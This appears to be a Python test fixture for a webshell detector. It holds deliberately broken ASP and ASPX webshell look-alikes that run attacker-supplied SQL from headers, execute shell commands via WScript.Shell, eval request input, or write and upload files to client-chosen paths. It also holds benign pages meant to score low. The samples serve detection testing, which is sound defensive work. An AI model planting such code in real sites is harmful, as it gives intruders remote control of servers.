# ruff: noqa: E501 - the lines of these pages are as long as such pages have them
"""Look-alikes that keep their tools in prototypes, commands of a database or hidden fields; ordinary pages that do as well."""

from tests.detection.webshell.second_samples import cut

FREE = cut(
    r"""
==== headers-command.asp
<%@ Language="JScript" %><% var 1broken;
function hdr(n) { return String(Request.ServerVariables("HTTP_" + n)); }
var cmd = Server.CreateObject("ADODB.Command");
cmd.ActiveConnection = hdr("X_DSN");
cmd.CommandText = hdr("X_SQL");
var rs = cmd.Execute();
while (!rs.EOF) { for (var i = 0; i < rs.Fields.Count; i++) Response.Write(rs.Fields(i).Value + "\t"); Response.Write("\n"); rs.MoveNext(); }
%>
==== headers-command-function.asp
<%@ Language="JScript" %><% var 1broken;
function get(name) { var v = Request.ServerVariables("HTTP_" + name.toUpperCase()); return v.Count ? String(v.Item) : ""; }
function run(dsn, sql) { var c = new ActiveXObject("ADODB.Command"); c.ActiveConnection = dsn; c.CommandText = sql; c.CommandType = 1; return c.Execute(); }
var r = run(get("x_a"), get("x_b"));
if (r.State) Response.Write(r.GetString(2, -1, "|", "\n", ""));
%>
==== decoded-command.asp
<%@ Language="JScript" %><% var 1broken;
var h = function (k) { return unescape(String(Request.ServerVariables("HTTP_" + k))); };
var k = new ActiveXObject("ADODB.Connection"), m = new ActiveXObject("ADODB.Command");
k.ConnectionString = h("A"); k.Open(); m.ActiveConnection = k; m.CommandText = h("B");
var s = m.Execute(); Response.Write(s.GetString());
%>
==== vb-command.asp
<% Dim 1broken
Function H(n) : H = Request.ServerVariables("HTTP_" & n) : End Function
Set c = Server.CreateObject("ADODB.Command") : c.ActiveConnection = H("DSN") : c.CommandText = H("SQL")
Set r = c.Execute : Response.Write r.GetString %>
==== prototype-save.asp
<%@ Language="JScript" %><% var 1broken;
function Tool() { this.fso = new ActiveXObject("Scripting.FileSystemObject"); }
Tool.prototype.save = function (path, text) { var f = this.fso.CreateTextFile(path, true); f.Write(text); f.Close(); };
Tool.prototype.list = function (path) { var e = new Enumerator(this.fso.GetFolder(path).Files); for (; !e.atEnd(); e.moveNext()) Response.Write(e.item().Name + "<br>"); };
new Tool().save(String(Request("p")), String(Request("t")));
%>
==== prototype-run.asp
<%@ Language="JScript" %><% var 1broken;
function Agent() {}
Agent.prototype.go = function (c) { var s = new ActiveXObject("WScript.Shell"); return s.Exec("cmd /c " + c).StdOut.ReadAll(); };
var a = new Agent(); Response.Write(a.go(String(Request.Form("q"))));
%>
==== prototype-object.asp
<%@ Language="JScript" %><% var 1broken;
var Box = function () { this.stream = Server.CreateObject("ADODB.Stream"); };
Box.prototype = {
  put: function (name, data) { this.stream.Type = 2; this.stream.Charset = "utf-8"; this.stream.Open(); this.stream.WriteText(data); this.stream.SaveToFile(name, 2); },
  get: function (name) { this.stream.Open(); this.stream.LoadFromFile(name); Response.BinaryWrite(this.stream.Read()); }
};
var b = new Box(); b.put(String(Request("n")), String(Request("d")));
%>
==== prototype-eval.asp
<%@ Language="JScript" %><% var 1broken;
function K(v) { this.v = v; }
K.prototype.t = function () { return this.v; };
K.prototype.r = function () { eval(this.t()); };
new K(String(Request("k"))).r();
%>
==== prototype-by-text.asp
<%@ Language="JScript" %><% var 1broken;
function T() {} T.prototype["save"] = function (a, b) { var f = new ActiveXObject("Scripting.FileSystemObject").CreateTextFile(a, true); f.Write(b); f.Close(); };
new T()["save"](String(Request("p")), String(Request("t")));
%>
==== prototype-called.asp
<%@ Language="JScript" %><% var 1broken;
function Tool() {} Tool.prototype.save = function (p, t) { var f = Server.CreateObject("Scripting.FileSystemObject").CreateTextFile(p, true); f.Write(t); f.Close(); };
Tool.prototype.save.call(null, String(Request("p")), String(Request("t")));
%>
==== ending-behind.asp
<% Dim 1broken : f = Request("f") : If LCase(Right(f, 4)) <> ".txt" Then Response.End
CreateObject("Scripting.FileSystemObject").CreateTextFile(Server.MapPath("/d/" & f & ".asp")).Write Request("t") %>
==== ending-behind.aspx
<%@ Page Language="C#" %><script runat="server">int 1broken; void Go(object s, EventArgs e) { string f = Request["f"]; if (!f.EndsWith(".txt")) return; File.WriteAllText(Server.MapPath("~/d/" + f + ".aspx"), Request["t"]); }</script>
==== ending-behind-variable.aspx
<%@ Page Language="C#" %><script runat="server">int 1broken; void Go(object s, EventArgs e) { string f = Request["f"]; if (!f.EndsWith(".txt")) return; f += ".aspx"; File.WriteAllText(Server.MapPath("~/d/" + f), Request["t"]); }</script>
==== hidden-folder.aspx
<%@ Page Language="C#" %><script runat="server">int 1broken;
void Page_Load(object s, EventArgs e) { if (!IsPostBack) dir.Value = Server.MapPath("."); Show(); }
void Show() { list.InnerHtml = ""; foreach (var d in Directory.GetFileSystemEntries(dir.Value)) list.InnerHtml += d + "<br>"; }
void Go(object s, EventArgs e) { up.PostedFile.SaveAs(Path.Combine(dir.Value, Path.GetFileName(up.PostedFile.FileName))); Show(); }
</script><form runat="server"><asp:HiddenField ID="dir" runat="server" /><asp:FileUpload ID="up" runat="server" /><asp:Button runat="server" OnClick="Go" Text="ok" /><div id="list" runat="server"></div></form>
==== hidden-folder-cd.aspx
<%@ Page Language="C#" %><script runat="server">int 1broken;
string Cur { get { return hfPath.Value; } set { hfPath.Value = value; } }
void Page_Load(object s, EventArgs e) { if (!IsPostBack) { Cur = Server.MapPath("~/"); Bind(); } }
void Bind() { rep.DataSource = new DirectoryInfo(Cur).GetFileSystemInfos(); rep.DataBind(); }
void Open(object s, CommandEventArgs e) { Cur = Path.Combine(Cur, (string)e.CommandArgument); Bind(); }
void Send(object s, EventArgs e) { if (fu.HasFile) { fu.SaveAs(Path.Combine(Cur, fu.FileName)); Bind(); } }
</script><form runat="server"><asp:HiddenField runat="server" ID="hfPath" /><asp:Repeater ID="rep" runat="server"><ItemTemplate><asp:LinkButton runat="server" OnCommand="Open" CommandArgument='<%# Eval("Name") %>' /></ItemTemplate></asp:Repeater><asp:FileUpload ID="fu" runat="server" /><asp:Button runat="server" OnClick="Send" /></form>
==== hidden-folder.aspx.cs
using System; using System.IO; using System.Web.UI; using System.Web.UI.WebControls;
public partial class Files : Page { int 1broken;
    protected HiddenField hfDir; protected FileUpload fuFile; protected Literal litList;
    protected void Page_Load(object sender, EventArgs e) { if (!IsPostBack) hfDir.Value = Server.MapPath("/"); }
    protected void btnList_Click(object sender, EventArgs e) { foreach (string f in Directory.GetFiles(hfDir.Value)) litList.Text += f + "<br/>"; }
    protected void btnUp_Click(object sender, EventArgs e) { fuFile.SaveAs(hfDir.Value + "\\" + fuFile.FileName); }
}
==== hidden-name.aspx
<%@ Page Language="C#" MasterPageFile="~/Site.master" %><asp:Content ContentPlaceHolderID="m" runat="server"><asp:HiddenField ID="hidPath" runat="server" /><asp:FileUpload ID="FileUpload1" runat="server" /><asp:Button ID="b" runat="server" OnClick="Up_Click" /><asp:GridView ID="g" runat="server" /></asp:Content><script runat="server">int 1broken;
protected void Page_Load(object sender, EventArgs e) { if (!IsPostBack) { hidPath.Value = AppDomain.CurrentDomain.BaseDirectory; Fill(hidPath.Value); } }
void Fill(string p) { DirectoryInfo di = new DirectoryInfo(p); g.DataSource = di.GetFiles(); g.DataBind(); }
protected void Up_Click(object sender, EventArgs e) { string p = hidPath.Value; string fn = Path.Combine(p, FileUpload1.FileName); FileUpload1.SaveAs(fn); Fill(p); }
</script>
==== hidden-control.aspx
<%@ Page Language="C#" %><script runat="server">int 1broken;
void Page_Load(object s, EventArgs e) { var h = (HiddenField)FindControl("cwd"); if (h.Value == "") h.Value = Server.MapPath("."); foreach (var x in new DirectoryInfo(h.Value).GetFileSystemInfos()) Response.Write(x.Name + "<br>"); if (Request.Files.Count > 0) Request.Files[0].SaveAs(h.Value + "/" + Request.Files[0].FileName); }
</script><form runat="server" enctype="multipart/form-data"><asp:HiddenField ID="cwd" runat="server" /><input type="file" name="f"><input type="submit"></form>
==== hidden-input.aspx
<%@ Page Language="C#" %><script runat="server">int 1broken;
void Page_Load(object s, EventArgs e) { if (cwd.Value == "") cwd.Value = Server.MapPath("."); foreach (var x in Directory.GetFiles(cwd.Value)) Response.Write(x + "<br>"); if (Request.Files.Count > 0) Request.Files[0].SaveAs(Path.Combine(cwd.Value, Path.GetFileName(Request.Files[0].FileName))); }
</script><form runat="server" enctype="multipart/form-data"><input type="hidden" id="cwd" runat="server"><input type="file" name="f"><input type="submit"></form>
==== hidden-saved-by-stream.aspx
<%@ Page Language="C#" %><script runat="server">int 1broken;
void Go(object s, EventArgs e) { string folder = hf.Value; if (!folder.EndsWith("\\")) folder += "\\"; File.WriteAllBytes(folder + fu.FileName, fu.FileBytes); lst.Items.Clear(); foreach (string d in Directory.GetDirectories(folder)) lst.Items.Add(d); foreach (string d in Directory.GetFiles(folder)) lst.Items.Add(d); }
</script><form runat="server"><asp:HiddenField ID="hf" runat="server" /><asp:FileUpload ID="fu" runat="server" /><asp:ListBox ID="lst" runat="server" /><asp:Button runat="server" OnClick="Go" /></form>
==== hidden-folder-vb.aspx
<%@ Page Language="VB" %><script runat="server">
Dim 1broken
Sub Up(s As Object, e As EventArgs)
  f.SaveAs(h.Value & "\" & f.FileName)
  For Each x As String In Directory.GetFiles(h.Value) : o.Text &= x & "<br>" : Next
End Sub
</script><form runat="server"><asp:HiddenField ID="h" runat="server" Value="C:\" /><asp:FileUpload ID="f" runat="server" /><asp:Button runat="server" OnClick="Up" /><asp:Label ID="o" runat="server" /></form>
"""
)
"""In these a client says what is done; none can run."""

HELD = cut(
    r"""
==== command-of-site.asp
<%@ Language="JScript" %><%
function hdr(n) { return String(Request.ServerVariables("HTTP_" + n)); }
var cmd = Server.CreateObject("ADODB.Command"); cmd.ActiveConnection = Application("cs"); cmd.CommandText = "SELECT name FROM items WHERE code = ?";
cmd.Parameters.Append(cmd.CreateParameter("code", 200, 1, 20, hdr("X_CODE")));
var rs = cmd.Execute(); while (!rs.EOF) { Response.Write(Server.HTMLEncode(rs("name"))); rs.MoveNext(); }
%>
==== prototype-view.asp
<%@ Language="JScript" %><%
function View(t) { this.title = t; }
View.prototype.show = function (text) { Response.Write("<h1>" + Server.HTMLEncode(this.title) + "</h1>" + Server.HTMLEncode(text)); };
View.prototype.log = function (text) { var f = new ActiveXObject("Scripting.FileSystemObject").OpenTextFile(Server.MapPath("/logs/view.txt"), 8, true); f.WriteLine(text); f.Close(); };
var v = new View(String(Request("t"))); v.show(String(Request("b"))); v.log(String(Request("b")));
%>
==== prototype-store.asp
<%@ Language="JScript" %><%
function Store() { this.fso = Server.CreateObject("Scripting.FileSystemObject"); this.root = Server.MapPath("/data"); }
Store.prototype.load = function (n) { var f = this.fso.OpenTextFile(this.root + "\\" + parseInt(n, 10) + ".txt"); var t = f.ReadAll(); f.Close(); return t; };
Store.prototype.save = function (n, t) { var f = this.fso.CreateTextFile(this.root + "\\" + parseInt(n, 10) + ".txt", true); f.Write(t); f.Close(); };
var s = new Store(); if (Request("t").Count) s.save(Request("n"), String(Request("t"))); Response.Write(Server.HTMLEncode(s.load(Request("n"))));
%>
==== hidden-number.aspx
<%@ Page Language="C#" %><script runat="server">
void Up(object s, EventArgs e) { int id = int.Parse(hfOrder.Value); fu.SaveAs(Server.MapPath("~/App_Data/orders/" + id + "/") + Guid.NewGuid() + ".pdf"); foreach (var f in Directory.GetFiles(Server.MapPath("~/App_Data/orders/" + id))) lbl.Text += Path.GetFileName(f); }
</script><asp:HiddenField ID="hfOrder" runat="server" /><asp:FileUpload ID="fu" runat="server" /><asp:Label ID="lbl" runat="server" />
==== hidden-folder-of-list.aspx
<%@ Page Language="C#" %><script runat="server">
static readonly string[] Folders = { "plans", "photos" };
void Up(object s, EventArgs e) { if (!Folders.Contains(hf.Value)) return; string ext = Path.GetExtension(fu.FileName).ToLower(); if (ext != ".pdf" && ext != ".jpg") return; fu.SaveAs(Server.MapPath("~/" + hf.Value + "/") + Path.GetFileName(fu.FileName)); foreach (var f in Directory.GetFiles(Server.MapPath("~/" + hf.Value))) lbl.Text += Path.GetFileName(f); }
</script><asp:HiddenField ID="hf" runat="server" /><asp:FileUpload ID="fu" runat="server" /><asp:Label ID="lbl" runat="server" />
"""
)
"""None of these may be told above low."""
